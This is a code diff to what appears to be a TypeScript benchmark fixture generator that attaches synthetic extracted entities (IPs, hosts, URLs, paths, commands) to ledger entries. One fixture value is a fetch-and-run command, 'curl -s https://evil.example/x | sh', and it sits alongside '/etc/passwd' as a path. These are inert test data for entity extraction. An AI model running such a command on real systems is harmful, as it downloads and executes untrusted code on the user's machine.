@@ -1,5 +1,6 @@
 import { seededRandom } from '../../bench/seeded-random.js';
 import { entryId, runIdFromTraceId } from '../../model/ids.js';
+import type { Entities } from '../../model/entities.js';
 import type { ActionKind, EntryRecord, JsonObject, Outcome } from '../../model/ledger-entry.js';
 
 /**
@@ -145,7 +146,18 @@ export function entry(plan: RunPlan, traceId: string, spanId: string, parent: st
     attributes,
     truncated_fields: [],
     redactions: i % 17 === 0 ? 1 : 0,
+    entities: entitiesOf(i),
   };
+}
+
+/** What extraction would have found (model/entities.ts), by span index: shared values, several types at once, none. */
+export const ENTITY_PSEUDONYM = '[EMAIL:00000000000000aa]';
+function entitiesOf(i: number): Entities {
+  if (i % 9 === 3) return { ip: ['10.0.0.7', '2001:db8::1'], path: ['/etc/passwd'], command: ['curl -s https://evil.example/x | sh'] };
+  if (i % 6 === 2) return { host: ['evil.example', 'b.example'], email: [ENTITY_PSEUDONYM] };
+  if (i % 4 === 1) return { host: ['evil.example'], url: ['https://evil.example/x'] };
+  if (i % 13 === 5) return { path: ['/tmp/東京.txt'], host: ['xn--bcher-kva.example'] };
+  return {};
 }
 
 /**
